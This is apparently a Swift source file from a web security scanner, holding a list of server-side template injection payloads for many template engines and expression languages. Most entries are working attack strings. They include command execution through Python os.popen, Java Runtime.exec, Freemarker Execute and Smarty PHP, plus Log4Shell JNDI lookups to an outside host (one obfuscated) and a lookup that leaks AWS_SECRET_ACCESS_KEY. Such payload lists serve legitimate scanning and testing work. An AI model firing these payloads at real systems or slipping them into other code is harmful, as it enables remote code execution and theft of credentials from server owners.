/// Expressions for the template engines and expression languages behind a page.
enum TemplateInjection {
    static let payloads = Template.list(
        "{{{digit}*{digit}}}", "${{marker}*{digit}}", "#{{marker}*{digit}}",
        "<%= {digit}*{digit} %>",
        "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__.__builtins__"
            + ".__import__('os').popen('{command}').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('{command}')}", "${jndi:ldap://{host}/a}",
        "${jndi:dns://{host}/{hash}}", "${${lower:j}ndi:${lower:l}dap://{host}:1389/x}",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "{{self._TemplateReference__context}}", "*{T(java.lang.System).getenv()}",
        "#set($x={digit}*{digit})$x",
        "{%import os%}{{os.popen('{command}').read()}}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        "@(1+{digit})", "{php}echo `{command}`;{/php}", "${env:AWS_SECRET_ACCESS_KEY:-x}",
        "{{constructor.constructor('{function}')()}}")
}
